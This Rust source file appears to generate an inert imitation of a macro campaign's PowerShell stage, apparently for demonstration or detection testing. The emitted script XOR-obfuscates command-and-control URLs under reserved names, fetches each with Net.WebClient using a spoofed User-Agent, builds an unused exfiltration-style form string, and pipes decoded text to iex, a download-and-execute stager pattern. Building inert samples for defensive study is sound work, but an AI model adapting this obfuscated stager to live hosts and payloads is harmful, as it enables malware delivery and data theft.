//! The PowerShell stage that the macro builds: the shape of the campaign's, with nothing in it that works.
//!
//! It decodes three URLs under reserved names, asks each once and throws the answer away, and runs a text that is
//! a comment. There is no loop, no order is read, nothing is sent; the form fields are a string that nobody uses.

use crate::demo::cast::{Cast, USER_AGENT};

/// The key of the campaign's encoding.
const KEY: u8 = 0xaa;
/// The last text that the stage decodes and runs.
const PAYLOAD: &str = "# a comment: this sample does nothing";

/// Returns the stage's text.
pub(super) fn text(cast: &Cast) -> String {
    let mut text = "# inert: every host below is under a reserved name\r\n$k = 0xAA\r\n".to_owned();
    for (number, url) in cast.c2_urls().iter().enumerate() {
        text += &format!("$u{number} = {}\r\n", decoding(url));
    }
    text += "$v = -join((48..57)|Get-Random -Count 12|%{[char]$_})\r\n";
    text += "$f = 'Content-Type: multipart/form-data; name=\"_webident_f\"; name=\"_webident_s\"; filename=\"' + $v + '.dat\"'\r\n";
    text += "$w = New-Object Net.WebClient\r\n";
    text += &format!("$w.Headers.Add('User-Agent', '{USER_AGENT}')\r\n");
    for number in 0..cast.c2_hosts.len() {
        text += &format!("$null = $w.DownloadString($u{number})\r\n");
    }
    text + &format!("iex ({})\r\n", decoding(PAYLOAD))
}

/// Returns an expression that decodes to a text.
fn decoding(text: &str) -> String {
    let numbers: Vec<String> = text.bytes().map(|byte| (byte ^ KEY).to_string()).collect();
    format!("-join(@({})|%{{[char]($_ -bxor $k)}})", numbers.join(","))
}
